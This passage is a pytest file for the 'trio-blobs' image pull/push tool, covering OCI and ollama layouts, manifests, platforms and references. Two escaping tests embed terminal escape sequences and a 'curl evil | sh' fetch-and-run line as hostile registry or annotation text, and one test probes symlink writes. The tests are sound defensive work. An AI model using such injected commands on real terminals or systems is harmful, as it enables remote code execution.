# ruff: noqa: F811 - test parameters name the fixtures imported from _real
"""The ``trio-blobs`` command, end to end through ``python -m trio_blobs`` against the in-process
registry on a loopback port, and against the distribution registry with skopeo reading what it
wrote; plus its parsers (references, platforms, manifests) as pure functions."""

from __future__ import annotations

import errno
import functools
import importlib.metadata
import io
import json
import os
import random
import signal
import subprocess
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest
import trio
import trio.testing

import trio_blobs._upload
from trio_blobs import (
    AuthChallenge,
    Blob,
    IntegrityError,
    LocalFileError,
    ProtocolError,
    RetriesExhaustedError,
    _cli,
    upload,
)
from trio_blobs._auth_provider import RegistryAuth
from trio_blobs._cli import main
from trio_blobs._digest import compute_digest
from trio_blobs._manifest import (
    Manifest,
    Platform,
    PlatformNotFoundError,
    Reference,
    fetch_manifest,
)
from trio_blobs._session import TransferClient
from trio_blobs.testing import Fault, Registry

from ._helpers import BASE_URL
from ._real import RealRegistry, plain_registry, programs, skopeo  # noqa: F401 - fixtures

OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
DOCKER_MANIFEST = "application/vnd.docker.distribution.manifest.v2+json"
DOCKER_LIST = "application/vnd.docker.distribution.manifest.list.v2+json"
DOCKER_CONFIG = "application/vnd.docker.container.image.v1+json"
DOCKER_LAYER = "application/vnd.docker.image.rootfs.diff.tar.gzip"
DIGEST = "sha256:" + "ab" * 32
CLI = (sys.executable, "-m", "trio_blobs")


@dataclass(frozen=True)
class Image:
    """An image stored in a registry: its blobs' contents, config first, and its manifest."""

    contents: list[bytes]
    manifest: bytes
    media_type: str = OCI_MANIFEST

    @property
    def blobs(self) -> list[Blob]:
        return [Blob.from_bytes(data) for data in self.contents]

    @property
    def digest(self) -> str:
        return compute_digest(self.manifest)


def make_image(*sizes: int, config: bytes = b'{"os": "linux"}', docker: bool = False) -> Image:
    """An OCI image (or a Docker schema 2 one, as ollama's registry serves) of random layers."""
    contents = [config, *(os.urandom(size) for size in sizes)]
    config_blob, *layers = [Blob.from_bytes(data) for data in contents]
    manifest_type, config_type, layer_type = (
        (DOCKER_MANIFEST, DOCKER_CONFIG, DOCKER_LAYER)
        if docker
        else (OCI_MANIFEST, "application/json", "application/octet-stream")
    )
    document = {
        "schemaVersion": 2,
        "mediaType": manifest_type,
        "config": {
            "mediaType": config_type,
            "digest": config_blob.digest,
            "size": config_blob.size,
        },
        "layers": [{"mediaType": layer_type, "digest": b.digest, "size": b.size} for b in layers],
    }
    return Image(contents, json.dumps(document).encode(), manifest_type)


def store(registry: Registry, image: Image, repository: str, tag: str) -> None:
    for data in image.contents:
        registry.add_blob(data, repository)
    stored = registry.manifests.setdefault(repository, {})
    stored[tag] = stored[image.digest] = (image.manifest, image.media_type)


@dataclass
class Served:
    registry: Registry
    url: str

    @property
    def host(self) -> str:
        return self.url.removeprefix("http://")


@pytest.fixture
async def served() -> AsyncIterator[Served]:
    registry = Registry()
    async with registry.serving() as url:
        yield Served(registry, url)


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str

    @property
    def summary(self) -> dict[str, object]:
        """The ``--json`` line."""
        record: dict[str, object] = json.loads(self.stdout.splitlines()[-1])
        return record


async def cli(*args: object, stdin: bytes = b"", env: dict[str, str] | None = None) -> Run:
    """Run ``python -m trio_blobs ARGS`` to completion."""
    done = await trio.run_process(
        [*CLI, *map(str, args)],
        stdin=stdin,
        capture_stdout=True,
        capture_stderr=True,
        check=False,
        env={**os.environ, **(env or {})},
    )
    return Run(done.returncode, done.stdout.decode(), done.stderr.decode())


def blob_gets(registry: Registry) -> list[str]:
    return [r.url for r in registry.requests if r.method == "GET" and "/blobs/" in r.url]


def files(root: Path) -> set[str]:
    """Every file and directory below ``root``, as relative paths."""
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


def assert_pulled(root: Path, layout: str, image: Image, manifest_name: str) -> None:
    """``root`` holds the image in ``layout`` and nothing half-written."""
    for blob, data in zip(image.blobs, image.contents, strict=True):
        hex_ = blob.digest.partition(":")[2]
        path = root / (f"blobs/sha256-{hex_}" if layout == "ollama" else f"blobs/sha256/{hex_}")
        assert path.read_bytes() == data
    if layout == "ollama":
        assert (root / "manifests" / manifest_name).read_bytes() == image.manifest
    else:
        index = json.loads((root / "index.json").read_text())
        [entry] = index["manifests"]
        assert entry["digest"] == image.digest
        assert entry["annotations"]["org.opencontainers.image.ref.name"] == manifest_name
        assert (root / "oci-layout").is_file()
    assert not [name for name in files(root) if "partial" in name or "trio-blobs" in name]


# -- pull ----------------------------------------------------------------------------------------


async def test_pull_into_the_ollama_layout_and_again_transfers_nothing(
    served: Served, tmp_path: Path
) -> None:
    image = make_image(1000, 300_000, 3_000_000)
    store(served.registry, image, "library/model", "v1")
    ref = f"http://{served.host}/library/model:v1"

    first = await cli("pull", ref, tmp_path, "--json")
    assert first.returncode == 0, first.stderr
    assert first.summary["ok"] is True
    assert first.summary["transferred"] == first.summary["blobs"] == 4
    assert first.summary["digest"] == image.digest
    assert_pulled(tmp_path, "ollama", image, f"{served.host}/library/model/v1")
    assert len(blob_gets(served.registry)) == 4

    served.registry.requests.clear()
    again = await cli("pull", ref, tmp_path)
    assert again.returncode == 0, again.stderr
    assert "up to date" in again.stdout
    assert blob_gets(served.registry) == []


async def test_pull_into_an_oci_layout_and_again_transfers_nothing(
    served: Served, tmp_path: Path
) -> None:
    image = make_image(10, 2_000_000)
    store(served.registry, image, "org/app", "1.0")
    ref = f"{served.host}/org/app:1.0"
    for _ in range(2):
        done = await cli("pull", ref, tmp_path, "--insecure", "--layout", "oci", "--json")
        assert done.returncode == 0, done.stderr
        assert_pulled(tmp_path, "oci", image, "1.0")
    assert done.summary["transferred"] == 0
    assert len(blob_gets(served.registry)) == 3
    assert (tmp_path / "blobs/sha256" / image.digest.partition(":")[2]).read_bytes() == (
        image.manifest
    )


@pytest.mark.parametrize("layout", ["ollama", "oci"])
async def test_pulled_files_get_the_mode_of_new_files(
    served: Served, tmp_path: Path, layout: str
) -> None:
    store(served.registry, make_image(10, 2000), "org/app", "1.0")
    umask = os.umask(0o022)
    try:  # readable by the service that serves the store, as ollama's and skopeo's files are
        done = await cli("pull", f"{served.url}/org/app:1.0", tmp_path, "--layout", layout)
    finally:
        os.umask(umask)
    assert done.returncode == 0, done.stderr
    modes = {path.stat().st_mode & 0o777 for path in tmp_path.rglob("*") if path.is_file()}
    assert modes == {0o644}


async def test_a_tag_pulled_again_into_an_oci_layout_replaces_the_image_with_a_warning(
    served: Served, tmp_path: Path
) -> None:
    first, second = make_image(10), make_image(20)
    store(served.registry, first, "org/first", "1.0")
    store(served.registry, second, "org/second", "1.0")
    for name in ("first", "second"):
        done = await cli("pull", f"{served.url}/org/{name}:1.0", tmp_path, "--layout", "oci")
        assert done.returncode == 0, done.stderr
    assert done.stderr == (
        f"trio-blobs: warning: {served.host}/org/second:1.0 replaces the image tagged 1.0 "
        f"({first.digest}) in {tmp_path / 'index.json'}\n"
    )
    assert_pulled(tmp_path, "oci", second, "1.0")


async def test_a_docker_manifest_pulled_by_digest_into_an_oci_layout(
    served: Served, tmp_path: Path
) -> None:
    image = make_image(10, docker=True)
    store(served.registry, image, "org/app", "v1")
    converted = Manifest.parse(image.manifest).as_oci()
    by_digest = f"{served.url}/org/app@{image.digest}"
    done = await cli("pull", by_digest, tmp_path, "--layout", "oci", "--json")
    assert done.returncode == 0, done.stderr
    assert (done.summary["digest"], done.summary["stored_digest"]) == (
        image.digest,
        converted.digest,
    )
    for ref in (f"{served.url}/org/app:v1", by_digest):
        done = await cli("pull", ref, tmp_path, "--layout", "oci")
        assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[-1] == (
        f"its manifest is stored converted to OCI, as {converted.digest}"
    )
    assert_pulled(tmp_path, "oci", Image(image.contents, converted.data), "v1")


@pytest.mark.parametrize(("layout", "other"), [("ollama", "oci"), ("oci", "ollama")])
async def test_a_pull_keeps_to_the_layout_dir_holds(
    served: Served, tmp_path: Path, layout: str, other: str
) -> None:
    store(served.registry, make_image(10), "org/app", "v1")
    store(served.registry, make_image(20), "org/app", "v2")
    first = await cli("pull", f"{served.url}/org/app:v1", tmp_path, "--layout", layout)
    assert first.returncode == 0, first.stderr
    second = await cli("pull", f"{served.url}/org/app:v2", tmp_path, "--json")
    assert second.returncode == 0, second.stderr
    assert second.summary["layout"] == layout
    before = files(tmp_path)
    refused = await cli("pull", f"{served.url}/org/app:v1", tmp_path, "--layout", other)
    assert refused.returncode == 1
    assert f"{tmp_path} holds an {layout} image store, not an {other} one" in refused.stderr
    assert files(tmp_path) == before


@pytest.mark.parametrize("left", [".trio-blobs-incoming/sha256-00.partial", "blobs/sha256/00"])
async def test_a_pull_into_an_oci_layout_that_an_interrupted_first_pull_left_stays_oci(
    served: Served, tmp_path: Path, left: str
) -> None:
    image = make_image(10, 20)
    store(served.registry, image, "org/app", "v1")
    (tmp_path / left).parent.mkdir(parents=True)  # no oci-layout: that comes with the image
    (tmp_path / left).write_bytes(b"")
    done = await cli("pull", f"{served.url}/org/app:v1", tmp_path, "--json")
    assert done.returncode == 0, done.stderr
    assert done.summary["layout"] == "oci"
    (tmp_path / left).unlink()
    if left.startswith(".trio-blobs-incoming"):
        (tmp_path / left).parent.rmdir()  # kept for the file, which no blob claimed
    assert_pulled(tmp_path, "oci", image, "v1")


def test_a_pull_into_an_oci_layout_tolerates_another_moving_its_blobs_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    layout = _cli._OciLayout(tmp_path)
    blob = Blob.from_bytes(b"tensor")
    real_replace = os.replace

    def raced(src: str, dst: str) -> None:
        real_replace(src, dst)  # another pull into DIR, ending first, moves the blob
        real_replace(src, dst)  # then this one finds it gone

    monkeypatch.setattr(os, "replace", raced)
    with layout.receiving() as staging:
        staging.mkdir()
        (staging / blob.file_name).write_bytes(b"tensor")
    assert layout.blob_path(blob.digest).read_bytes() == b"tensor"
    assert not staging.exists()


async def test_a_registrys_words_reach_the_terminal_escaped(served: Served, tmp_path: Path) -> None:
    hostile = "gone\x1b]0;owned\x07\x1b[2J\nTry: curl evil | sh"
    error = {"errors": [{"code": "MANIFEST_UNKNOWN", "message": hostile}]}
    served.registry.add_fault(
        Fault(path="/manifests/", status=404, body=json.dumps(error).encode(), times=None)
    )
    done = await cli("pull", f"{served.url}/org/app:v1", tmp_path)
    assert done.returncode == 1
    assert "\x1b" not in done.stderr
    assert "\x07" not in done.stderr
    assert "gone\\x1b]0;owned\\x07\\x1b[2J\\nTry: curl evil | sh" in done.stderr
    assert [line for line in done.stderr.splitlines() if line.lstrip().startswith("Try:")] == [
        done.stderr.splitlines()[-1]
    ]


@pytest.mark.parametrize(
    ("field", "value"), [("annotations", ["a"]), ("annotations", "tag"), ("mediaType", ["x"])]
)
async def test_a_damaged_index_json_is_explained(
    served: Served, tmp_path: Path, field: str, value: object
) -> None:
    image = make_image(10)
    store(served.registry, image, "org/app", "v1")
    (tmp_path / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')
    entry: dict[str, object] = {"mediaType": OCI_MANIFEST, "digest": image.digest, "size": 1}
    entry[field] = value
    (tmp_path / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [entry]}))
    for args in (
        ("push", tmp_path, f"{served.url}/org/copy:v1"),
        ("pull", f"{served.url}/org/app:v1", tmp_path),
    ):
        done = await cli(*args)
        assert done.returncode == 1
        assert "is not an OCI image index" in done.stderr
        assert "unexpected error" not in done.stderr


@pytest.mark.parametrize(
    ("layout", "link"),
    [
        ("oci", ".trio-blobs-incoming"),  # its files would be moved into DIR/blobs
        ("oci", "blobs/sha256"),
        ("ollama", "blobs"),
        ("ollama", "manifests"),
    ],
)
async def test_a_pull_writes_nothing_through_a_symbolic_link_in_dir(
    served: Served, tmp_path: Path, layout: str, link: str
) -> None:
    image = make_image(10, 20)
    store(served.registry, image, "org/app", "v1")
    outside, store_dir = tmp_path / "outside", tmp_path / "dir"
    outside.mkdir()
    kept = outside / make_image(30).blobs[0].file_name  # named as a blob is
    kept.write_bytes(b"someone else's")
    if layout == "oci":
        (store_dir / "oci-layout").parent.mkdir()
        (store_dir / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')
    (store_dir / link).parent.mkdir(parents=True, exist_ok=True)
    (store_dir / link).symlink_to(outside)
    done = await cli("pull", f"{served.url}/org/app:v1", store_dir, "--layout", layout)
    assert done.returncode == 1
    assert f"{store_dir / link} is a symbolic link" in done.stderr
    assert sorted(outside.iterdir()) == [kept]
    assert kept.read_bytes() == b"someone else's"


async def test_blobs_a_killed_pull_left_finished_in_the_staging_are_not_counted_as_pulled(
    served: Served, tmp_path: Path
) -> None:
    image = make_image(10, 20, 30)
    store(served.registry, image, "org/app", "v1")
    left = tmp_path / ".trio-blobs-incoming" / image.blobs[1].file_name
    left.parent.mkdir()
    left.write_bytes(image.contents[1])
    done = await cli("pull", f"{served.url}/org/app:v1", tmp_path, "--json")
    assert done.returncode == 0, done.stderr
    fetched = [blob for blob in image.blobs if blob != image.blobs[1]]
    assert done.summary["transferred"] == len(blob_gets(served.registry)) == len(fetched)
    assert done.summary["transferred_bytes"] == sum(blob.size for blob in fetched)
    assert_pulled(tmp_path, "oci", image, "v1")


async def test_a_pull_into_a_file_fails_before_any_request(served: Served, tmp_path: Path) -> None:
    store(served.registry, make_image(10), "org/app", "v1")
    (tmp_path / "file").write_bytes(b"kept")
    refused = await cli("pull", f"{served.url}/org/app:v1", tmp_path / "file")
    assert refused.returncode == 1
    assert f"{tmp_path / 'file'} is not a directory" in refused.stderr
    assert "Traceback" not in refused.stderr
    assert served.registry.requests == []
    assert (tmp_path / "file").read_bytes() == b"kept"


@pytest.mark.parametrize("layout", ["ollama", "oci"])
async def test_push_from_either_layout(served: Served, tmp_path: Path, layout: str) -> None:
    image = make_image(100, 1_500_000)
    store(served.registry, image, "library/model", "v1")
    pulled = await cli(
        "pull", f"http://{served.host}/library/model:v1", tmp_path, "--layout", layout
    )
    assert pulled.returncode == 0, pulled.stderr

    pushed = await cli("push", tmp_path, f"http://{served.host}/copies/model:v2", "--json")
    assert pushed.returncode == 0, pushed.stderr
    assert pushed.summary["transferred"] == 3
    assert served.registry.manifests["copies/model"]["v2"] == (image.manifest, OCI_MANIFEST)
    for blob, data in zip(image.blobs, image.contents, strict=True):
        assert served.registry.blobs["copies/model"][blob.digest] == data

    mounted = await cli(
        "push", tmp_path, f"http://{served.host}/more/model:v1", "--mount-from", "copies/model"
    )
    assert mounted.returncode == 0, mounted.stderr
    assert mounted.stdout == (
        f"pushed {pushed.summary['image']} to {served.host}/more/model:v1: "
        "nothing uploaded, 3 mounted, 0 already there\n"
    )
    assert served.registry.manifests["more/model"]["v1"][0] == image.manifest
    assert not [name for name in files(tmp_path) if "outgoing" in name]


@pytest.mark.parametrize("layout", ["ollama", "oci"])
async def test_a_push_of_a_damaged_file_says_how_to_repair_it(
    served: Served, tmp_path: Path, layout: str
) -> None:
    image = make_image(100, 1000)
    store(served.registry, image, "library/model", "v1")
    pulled = await cli("pull", f"{served.url}/library/model:v1", tmp_path, "--layout", layout)
    assert pulled.returncode == 0, pulled.stderr
    hex_ = image.blobs[2].digest.partition(":")[2]
    damaged = tmp_path / "blobs" / (f"sha256-{hex_}" if layout == "ollama" else f"sha256/{hex_}")
    data = damaged.read_bytes()
    damaged.write_bytes(bytes([data[0] ^ 0xFF]) + data[1:])  # the same size, surely damaged

    pushed = await cli("push", tmp_path, f"{served.url}/copies/model:v1")
    assert pushed.returncode == 1
    assert f"{damaged} does not match its digest" in pushed.stderr
    assert "A file in DIR is damaged" in pushed.stderr
    assert "Try: delete that file, pull the image again, then push." in pushed.stderr
    assert "copies/model" not in served.registry.manifests


async def pulled_oci(served: Served, root: Path) -> tuple[Image, _cli._OciLayout]:
    """A small image in ``served``'s library/model:v1, pulled into an OCI layout in ``root``."""
    image = make_image(100, 1000)
    store(served.registry, image, "library/model", "v1")
    pulled = await cli("pull", f"{served.url}/library/model:v1", root, "--layout", "oci")
    assert pulled.returncode == 0, pulled.stderr
    return image, _cli._OciLayout(root)


async def test_a_name_from_dir_is_shown_escaped(served: Served, tmp_path: Path) -> None:
    await pulled_oci(served, tmp_path)
    index = json.loads((tmp_path / "index.json").read_text())
    index["manifests"][0]["annotations"][_cli.REF_NAME] = "v1\x1b]0;owned\x07\nTry: curl evil | sh"
    (tmp_path / "index.json").write_text(json.dumps(index))
    done = await cli("push", tmp_path, f"{served.url}/copies/model:v1")
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout
    assert "v1\\x1b]0;owned\\x07\\nTry: curl evil | sh" in done.stdout


async def push_in_process(served: Served, layout: _cli._Layout, repository: str) -> None:
    """Push ``layout``'s image v1 to ``served`` as ``repository``:v1, in this process."""
    ref = Reference.parse(f"{served.url}/{repository}:v1")
    async with TransferClient(max_idle_connections=4) as client:
        remote = _cli._Remote(client, RegistryAuth(ref.base_url, None, None), None, "off")
        await _cli._push_image(remote, ref, layout, layout.load("v1"), None)


async def test_a_push_from_an_oci_layout_names_its_files_in_errors(
    served: Served, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    image, layout = await pulled_oci(served, tmp_path)
    broken = image.blobs[2]
    real_open = trio_blobs._upload._open_source

    def open_source(path: Path) -> int:
        if path.name == broken.file_name:
            raise OSError(errno.EACCES, "Permission denied")
        return real_open(path)

    monkeypatch.setattr(trio_blobs._upload, "_open_source", open_source)
    with pytest.raises(LocalFileError) as caught:
        await push_in_process(served, layout, "copies/model")
    assert str(caught.value) == (
        f"{broken.digest}: {layout.blob_path(broken.digest)}: Permission denied"
    )


def snapshot(root: Path) -> dict[str, tuple[int, int]]:
    """The size and modification time of ``root`` and of everything below it."""
    return {
        p.relative_to(root).as_posix(): (p.lstat().st_size, p.lstat().st_mtime_ns)
        for p in [root, *root.rglob("*")]
    }


async def test_push_from_an_oci_layout_never_writes_to_it(served: Served, tmp_path: Path) -> None:
    image = make_image(100, 1_000)
    store(served.registry, image, "org/app", "v1")
    layout, tmp = tmp_path / "layout", tmp_path / "tmp"
    tmp.mkdir()
    pulled = await cli("pull", f"{served.url}/org/app:v1", layout, "--layout", "oci")
    assert pulled.returncode == 0, pulled.stderr
    before = snapshot(layout)
    served.registry.add_fault(Fault(method="HEAD", delay=0.5))  # time to look at the staging
    process = await trio.lowlevel.open_process(
        [*CLI, "push", str(layout), f"{served.url}/copies/app:v1"],
        env={**os.environ, "TMPDIR": str(tmp)},
    )
    for _ in range(500):  # until the push asks for its first blob, held back by the fault
        if any(r.method == "HEAD" for r in served.registry.requests):
            break
        await trio.sleep(0.01)
    [staging] = tmp.iterdir()
    assert {link.name: link.resolve() for link in staging.iterdir()} == {
        blob.file_name: layout / "blobs/sha256" / blob.digest.partition(":")[2]
        for blob in image.blobs
    }
    assert snapshot(layout) == before
    with trio.fail_after(10):
        await process.wait()
    assert process.returncode == 0
    assert snapshot(layout) == before
    assert list(tmp.iterdir()) == []
    assert served.registry.manifests["copies/app"]["v1"][0] == image.manifest


async def test_push_says_which_image_when_dir_holds_several(served: Served, tmp_path: Path) -> None:
    target = f"http://{served.host}/elsewhere/model:v1"
    for name in ("one", "two"):
        store(served.registry, make_image(10), f"library/{name}", "latest")
        done = await cli("pull", f"http://{served.host}/library/{name}", tmp_path)
        assert done.returncode == 0, done.stderr
        if name == "one":
            missing = await cli("push", tmp_path, target, "--image", "two")
            assert f"{tmp_path} holds 1 image; none matches --image two" in missing.stderr

    ambiguous = await cli("push", tmp_path, target)
    assert ambiguous.returncode == 1
    assert "--image" in ambiguous.stderr
    assert f"{served.host}/library/one:latest" in ambiguous.stderr

    chosen = await cli("push", tmp_path, target, "--image", "library/two:latest")
    assert chosen.returncode == 0, chosen.stderr
    assert "library/two:latest" in chosen.stdout

    missing_dir = await cli("push", tmp_path / "nothing", target)
    assert missing_dir.returncode == 1
    assert f"{tmp_path / 'nothing'}: no such directory" in missing_dir.stderr

    (tmp_path / "empty").mkdir()
    empty = await cli("push", tmp_path / "empty", target)
    assert empty.returncode == 1
    assert "no image in" in empty.stderr


async def test_push_finds_the_image_by_its_name_or_digest(served: Served, tmp_path: Path) -> None:
    images = {name: make_image(10) for name in ("llama3.2", "other")}
    for name, image in images.items():
        store(served.registry, image, f"library/{name}", "latest")
        done = await cli("pull", f"{served.url}/library/{name}", tmp_path)
        assert done.returncode == 0, done.stderr
    # As pulled from ollama's registry.
    (tmp_path / "manifests" / served.host).rename(tmp_path / "manifests/registry.ollama.ai")

    by_name = await cli("push", tmp_path, f"{served.url}/me/llama3.2:latest")
    assert by_name.returncode == 0, by_name.stderr
    assert served.registry.manifests["me/llama3.2"]["latest"][0] == images["llama3.2"].manifest

    other = images["other"].digest
    by_digest = await cli("push", tmp_path, f"{served.url}/me/x@{other}")
    assert by_digest.returncode == 0, by_digest.stderr
    assert served.registry.manifests["me/x"][other][0] == images["other"].manifest

    wrong = await cli("push", tmp_path, f"{served.url}/me/x:v1", "--image", "nothing")
    assert wrong.returncode == 1
    assert "holds 2 images; none matches --image nothing: registry.ollama.ai/" in wrong.stderr
    assert "Try: give --image one of the names listed." in wrong.stderr


# -- indexes -------------------------------------------------------------------------------------


async def test_pull_resolves_an_index_to_a_platform(served: Served, tmp_path: Path) -> None:
    images = {
        "linux/amd64": make_image(100, config=b'{"architecture": "amd64"}'),
        "linux/arm64/v8": make_image(200, config=b'{"architecture": "arm64"}'),
    }
    entries = []
    for name, image in images.items():
        src = tmp_path / "src" / image.digest
        src.mkdir(parents=True)
        for blob, data in zip(image.blobs, image.contents, strict=True):
            (src / blob.file_name).write_bytes(data)
        await upload(
            image.blobs,
            base_url=served.url,
            repository="org/multi",
            src_dir=src,
            manifest=image.manifest,
        )
        os_, arch, variant = name.split("/") + [None] * (3 - len(name.split("/")))
        platform = {"os": os_, "architecture": arch} | ({"variant": variant} if variant else {})
        entries.append(
            {"mediaType": OCI_MANIFEST, "digest": image.digest, "size": len(image.manifest)}
            | {"platform": platform}
        )
    index = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": entries}).encode()
    await upload(
        [],
        base_url=served.url,
        repository="org/multi",
        manifest=index,
        manifest_ref="v1",
        src_dir=tmp_path,
    )

    ref = f"http://{served.host}/org/multi:v1"
    for wanted, name in (("linux/arm64", "linux/arm64/v8"), ("linux/x86_64", "linux/amd64")):
        dest = tmp_path / wanted.replace("/", "-")
        done = await cli("pull", ref, dest, "--platform", wanted, "--json")
        assert done.returncode == 0, done.stderr
        assert done.summary["digest"] == images[name].digest
        assert_pulled(dest, "ollama", images[name], f"{served.host}/org/multi/v1")

    missing = await cli("pull", ref, tmp_path / "s390x", "--platform", "linux/s390x")
    assert missing.returncode == 1
    assert "no manifest for linux/s390x" in missing.stderr
    assert "--platform linux/amd64 or --platform linux/arm64/v8" in missing.stderr
    assert not (tmp_path / "s390x").exists()


PLATFORMS = [Platform("linux", "amd64"), Platform("linux", "arm", "v6"), Platform("linux", "arm")]


@pytest.mark.parametrize(
    ("wanted", "chosen"),
    [
        ("linux/amd64", 0),
        ("linux/x86_64", 0),
        ("linux/arm/v7", 2),  # the entry without a variant is v7
        ("linux/arm/v6", 1),
        ("linux/armv7l", 2),
        ("linux/arm/v8", 2),  # v7 is the closest older variant
        ("linux/arm/v5", None),
        ("windows/amd64", None),
        ("linux/arm64", None),
    ],
)
def test_platform_selection(wanted: str, chosen: int | None) -> None:
    index = Manifest.parse(
        json.dumps(
            {
                "schemaVersion": 2,
                "manifests": [
                    {"mediaType": OCI_MANIFEST, "digest": DIGEST, "size": 1, "platform": p}
                    | {"annotations": {"n": str(i)}}
                    for i, p in enumerate(
                        [
                            {"os": p.os, "architecture": p.architecture}
                            | ({"variant": p.variant} if p.variant else {})
                            for p in PLATFORMS
                        ]
                    )
                ],
            }
        ).encode()
    )
    assert index.is_index
    if chosen is None:
        with pytest.raises(PlatformNotFoundError):
            index.select(Platform.parse(wanted))
    else:
        assert index.select(Platform.parse(wanted)).platform == PLATFORMS[chosen]


# -- fetch_manifest ------------------------------------------------------------------------------


async def test_fetch_manifest_asks_for_every_manifest_type_and_resolves_an_index(
    registry: Registry, client: httpx.AsyncClient
) -> None:
    amd, arm = make_image(10), make_image(20, docker=True)
    store(registry, amd, "org/app", "amd")
    store(registry, arm, "org/app", "arm")
    entries = [
        {"mediaType": image.media_type, "digest": image.digest, "size": len(image.manifest)}
        | {"platform": {"os": "linux", "architecture": arch}}
        for image, arch in ((amd, "amd64"), (arm, "arm64"))
    ]
    index = json.dumps({"schemaVersion": 2, "mediaType": DOCKER_LIST, "manifests": entries})
    registry.manifests["org/app"]["v1"] = (index.encode(), DOCKER_LIST)

    manifest = await fetch_manifest(
        base_url=BASE_URL,
        repository="org/app",
        reference="v1",
        platform=Platform("linux", "arm64"),
        client=client,
    )
    assert manifest == Manifest.parse(arm.manifest)
    assert manifest.media_type == DOCKER_MANIFEST
    assert manifest.blobs == tuple(arm.blobs)
    assert [r.url.rpartition("/")[2] for r in registry.requests] == ["v1", arm.digest]
    assert {r.headers["accept"] for r in registry.requests} == {
        f"{OCI_MANIFEST}, {OCI_INDEX}, {DOCKER_MANIFEST}, {DOCKER_LIST}"
    }


async def test_fetch_manifest_lets_other_errors_through_as_they_are() -> None:
    def broken(request: httpx.Request) -> httpx.Response:
        raise RuntimeError("a bug in a transport")

    async with httpx.AsyncClient(transport=httpx.MockTransport(broken)) as client:
        with pytest.raises(RuntimeError, match="a bug in a transport"):
            await fetch_manifest(base_url=BASE_URL, repository="org/app", client=client)


async def test_fetch_manifest_waits_for_a_token_without_counting_it_a_stall(
    autojump_clock: trio.testing.MockClock,
) -> None:
    registry = Registry(token="t")
    image = make_image(10)
    store(registry, image, "org/app", "v1")

    async def slow_token(challenge: AuthChallenge) -> str:
        await trio.sleep(15)  # longer than stall_timeout
        return "t"

    async with httpx.AsyncClient(transport=registry.transport()) as client:
        manifest = await fetch_manifest(
            base_url=BASE_URL,
            repository="org/app",
            reference="v1",
            client=client,
            get_token=slow_token,
            stall_timeout=10,
        )
    assert manifest.digest == image.digest
    assert len(registry.requests) == 2  # the challenged one, and the one with the token


@pytest.mark.parametrize(
    ("fault", "reference"),
    [
        (Fault(path="/manifests/", corrupt=True, times=None), "digest"),
        (Fault(path="/manifests/", headers={"Docker-Content-Digest": DIGEST}, times=None), "v1"),
        (Fault(path="/manifests/", extra=b" ", times=None), "digest"),
    ],
)
async def test_fetch_manifest_checks_digests(
    registry: Registry,
    client: httpx.AsyncClient,
    autojump_clock: trio.testing.MockClock,
    fault: Fault,
    reference: str,
) -> None:
    image = make_image(10)
    store(registry, image, "org/app", "v1")
    registry.add_fault(fault)
    with pytest.raises(RetriesExhaustedError) as caught:
        await fetch_manifest(
            base_url=BASE_URL,
            repository="org/app",
            reference=image.digest if reference == "digest" else reference,
            client=client,
        )
    assert isinstance(caught.value.last_error, IntegrityError)
    assert fault.matched == 6


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"<html>", "not JSON"),
        (b'{"schemaVersion": 1, "fsLayers": []}', "schema 1 is not supported"),
        (b'{"schemaVersion": 2, "config": {"digest": "sha256:0", "size": 1}}', "malformed"),
        (b'{"schemaVersion": 2, "manifests": [{"digest": 1}]}', "malformed"),
    ],
)
async def test_an_unusable_manifest_is_a_protocol_error(
    registry: Registry, client: httpx.AsyncClient, document: bytes, message: str
) -> None:
    registry.manifests["org/app"] = {"v1": (document, "application/json")}
    with pytest.raises(ProtocolError, match=message):
        await fetch_manifest(base_url=BASE_URL, repository="org/app", reference="v1", client=client)
    assert len(registry.requests) == 1


@pytest.mark.parametrize(
    ("size", "error", "match", "requests"),
    [
        (-1, RetriesExhaustedError, "larger than", 7),  # one byte short: the body is longer
        (10**15, ProtocolError, "a manifest of 1000000000000000 bytes", 1),  # never asked for
    ],
)
async def test_fetch_manifest_checks_the_size_an_index_names(
    registry: Registry,
    client: httpx.AsyncClient,
    autojump_clock: trio.testing.MockClock,
    size: int,
    error: type[Exception],
    match: str,
    requests: int,
) -> None:
    image = make_image(10)
    store(registry, image, "org/app", "image")
    entry = {
        "mediaType": OCI_MANIFEST,
        "digest": image.digest,
        "size": len(image.manifest) + size if size < 0 else size,
        "platform": {"os": "linux", "architecture": "amd64"},
    }
    index = json.dumps({"schemaVersion": 2, "manifests": [entry]}).encode()
    registry.manifests["org/app"]["v1"] = (index, OCI_INDEX)
    with pytest.raises(error, match=match) as caught:
        await fetch_manifest(
            base_url=BASE_URL,
            repository="org/app",
            reference="v1",
            platform=Platform("linux", "amd64"),
            client=client,
        )
    assert getattr(caught.value, "digest", None) == image.digest
    assert len(registry.requests) == requests  # the index, and each attempt at the entry


# -- references ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "registry", "repository", "tag", "digest", "scheme"),
    [
        ("llama3.2", "registry.ollama.ai", "library/llama3.2", "latest", None, "https"),
        ("llama3.2:1b", "registry.ollama.ai", "library/llama3.2", "1b", None, "https"),
        ("me/model", "registry.ollama.ai", "me/model", "latest", None, "https"),
        ("localhost/a/b:v", "localhost", "a/b", "v", None, "https"),
        ("localhost:5000/alpine", "localhost:5000", "alpine", "latest", None, "https"),
        ("ghcr.io/o/r/x@" + DIGEST, "ghcr.io", "o/r/x", None, DIGEST, "https"),
        ("a/b:t@" + DIGEST, "registry.ollama.ai", "a/b", "t", DIGEST, "https"),
        ("http://10.0.0.1:80/a/b", "10.0.0.1:80", "a/b", "latest", None, "http"),
        ("http://registry/a", "registry", "a", "latest", None, "http"),
